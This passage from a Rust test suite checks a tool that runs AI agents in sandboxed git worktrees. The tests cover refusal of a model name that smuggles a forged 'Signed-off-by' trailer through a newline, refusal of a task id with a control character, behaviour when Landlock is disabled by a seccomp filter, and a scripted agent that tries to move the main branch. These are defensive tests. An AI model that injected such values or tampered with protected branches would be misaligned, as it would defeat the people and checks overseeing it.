        // not try it, and if it did, nothing would leave the machine.
        for args in [
            publish("http://192.0.2.1:9"),
            run_publish("http://192.0.2.1:9"),
        ] {
            let out = in_netns(a.fanout(&cfg, &args)).output().unwrap();
            check(&out, &format!("{args:?}"));
        }
    }
}

/// Attack 7, inputs: a model name with a newline would write trailer lines into
/// fanout's commit message; it, and a task id with a control character, are refused
/// at plan time (exit 2), naming the flag or the file, line and key.
fn control_characters_in_plan_inputs_are_refused(mode: Sandbox) {
    let a = Arena::new(mode);
    let cfg = a.setup("", "", "");
    let evil = "gpt-4o\n\nSigned-off-by: Mallory <mallory@example.invalid>";
    let branches = a.t.branches();
    for cmd in ["plan", "run"] {
        let out = a.output(
            &cfg,
            &[cmd, "-w", "1", "--models", evil, "Improve the docs"],
        );
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{cmd} --models: {err}");
        assert!(err.contains("--models"), "{cmd}: {err}");
    }
    let file_cfg = a.t.config(&format!(
        "{}models:\n  - \"gpt-4o\\nSigned-off-by: Mallory <mallory@example.invalid>\"\ntasks:\n  - id: \"docs\\u001b[31m\"\n    prompt: Improve the docs\n",
        std::fs::read_to_string(&cfg).unwrap()
    ));
    let out = a.output(file_cfg.to_str().unwrap(), &["run", "-w", "1"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("fanout.yml:"), "{err}");
    assert!(err.contains("models") || err.contains("tasks"), "{err}");
    assert!(a.t.runs().is_empty(), "a run started");
    assert_eq!(a.t.branches(), branches);
}

/// `unshare -rn CMD`: the same command in a user and network namespace with nothing
/// but a loopback interface that is down — no address outside the machine is reachable.
#[cfg(target_os = "linux")]
fn in_netns(c: Command) -> Command {
    let mut n = Command::new("unshare");
    n.arg("-rn").arg(c.get_program()).args(c.get_args());
    if let Some(dir) = c.get_current_dir() {
        n.current_dir(dir);
    }
    n.env_clear();
    for (k, v) in c.get_envs() {
        if let Some(v) = v {
            n.env(k, v);
        }
    }
    n.stdin(Stdio::null());
    n
}

/// Run `c` with Landlock missing: a seccomp filter (installed in the child before it
/// execs fanout, and inherited by everything fanout starts) makes the three Landlock
/// system calls fail with ENOSYS, as on a kernel built without it.
#[cfg(target_os = "linux")]
fn without_landlock(c: &mut Command) {
    use nix::libc;
    use std::os::unix::process::CommandExt;
    fn install() -> std::io::Result<()> {
        // landlock_create_ruleset, landlock_add_rule, landlock_restrict_self: 444–446 on
        // every architecture (syscalls added after 5.1 share one number table).
        const FIRST: u32 = 444;
        const LAST: u32 = 446;
        const LD_W_ABS: u16 = 0x20;
        const JGE_K: u16 = 0x35;
        const JGT_K: u16 = 0x25;
        const RET_K: u16 = 0x06;
        const RET_ALLOW: u32 = 0x7fff_0000;
        const RET_ERRNO: u32 = 0x0005_0000;
        let ins = |code, jt, jf, k| libc::sock_filter { code, jt, jf, k };
        let filter = [
            ins(LD_W_ABS, 0, 0, 0), // A = seccomp_data.nr
            ins(JGE_K, 0, 2, FIRST),
            ins(JGT_K, 1, 0, LAST),
            ins(RET_K, 0, 0, RET_ERRNO | libc::ENOSYS as u32),
            ins(RET_K, 0, 0, RET_ALLOW),
        ];
        let prog = libc::sock_fprog {
            len: filter.len() as u16,
            filter: filter.as_ptr() as *mut libc::sock_filter,
        };
        // SAFETY: plain system calls between fork and exec, on data that outlives them.
        unsafe {
            if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
                || libc::prctl(
                    libc::PR_SET_SECCOMP,
                    libc::SECCOMP_MODE_FILTER,
                    &prog as *const libc::sock_fprog,
                ) != 0
            {
                return Err(std::io::Error::last_os_error());
            }
        }
        Ok(())
    }
    // SAFETY: `install` only makes system calls (async-signal-safe).
    unsafe {
        c.pre_exec(install);
    }
}

/// `sandbox: required` where the kernel has no Landlock: exit 2 before anything is
/// created (no run directory, branch or worktree; the agent never runs).
#[cfg(target_os = "linux")]
#[test]
fn required_sandbox_fails_up_front_without_landlock() {
    let a = Arena::new(Sandbox::Required);
    let cfg = a.setup(r#"touch "$MARKERS/agent-ran""#, "", "");
    let branches = a.t.branches();
    let mut c = a.fanout(&cfg, &["run", "-w", "1", "Improve the docs"]);
    without_landlock(&mut c);
    let out = c.output().unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("sandbox"), "{err}");
    assert!(err.to_lowercase().contains("landlock"), "{err}");
    assert!(a.t.runs().is_empty());
    assert_eq!(a.t.branches(), branches);
    assert!(!a.t.worktrees.exists() || std::fs::read_dir(&a.t.worktrees).unwrap().next().is_none());
    assert!(a.markers().is_empty(), "the agent ran");
}

/// `sandbox: auto` where the kernel has no Landlock: the run goes on unsandboxed, says
/// so, and records it per worker; the tamper checks still hold (main is restored).
#[cfg(target_os = "linux")]
#[test]
fn auto_sandbox_runs_unsandboxed_without_landlock_and_says_so() {
    let a = Arena::new(Sandbox::Off);
    let cfg = a.setup(
        r#"git add -A && git commit -q -m "agent work"
try "move main" git update-ref refs/heads/main "$(git rev-parse HEAD)"
"#,
        "",
        "",
    );
    let cfg_text = std::fs::read_to_string(&cfg)
        .unwrap()
        .replace("sandbox: off\n", "sandbox: auto\n");
    std::fs::write(&cfg, cfg_text).unwrap();
    let before = UserState::capture(&a.t);
    let mut c = a.fanout(&cfg, &["run", "--json", "-w", "1", "Improve the docs"]);
    without_landlock(&mut c);
    let out = c.output().unwrap();
    let report = json(&out);
    let err = text(&out.stderr);
    assert!(err.to_lowercase().contains("landlock"), "{err}");
    assert_eq!(
        UserState::capture(&a.t).changes_since(&before),
        Vec::<String>::new(),
        "{}",
        a.logs(&report)
    );
    let r = &report["results"][0];
    assert_eq!(r["sandboxed"], false, "{r:#}");
    assert_eq!(r["status"], "failed", "{r:#}");
}
